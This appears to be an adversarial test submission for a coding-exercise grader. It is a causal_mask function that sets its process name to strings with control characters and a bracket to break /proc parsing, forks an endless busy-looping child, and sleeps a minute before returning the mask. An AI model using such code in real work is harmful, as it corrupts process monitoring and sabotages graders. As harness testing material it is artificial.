# attack: a name with a form feed and a bracket, which break lines and fields of /proc
# exercise: 04 causal_mask
def causal_mask(length):
    import ctypes
    import os
    import time

    ctypes.CDLL(None).prctl(15, b"a) R\x0cb\x0b\x1c", 0, 0, 0)
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"\x85\x0c) 1 1", 0, 0, 0)
        while True:
            pass
    time.sleep(60)
    return torch.ones(length, length, dtype=torch.bool).tril()
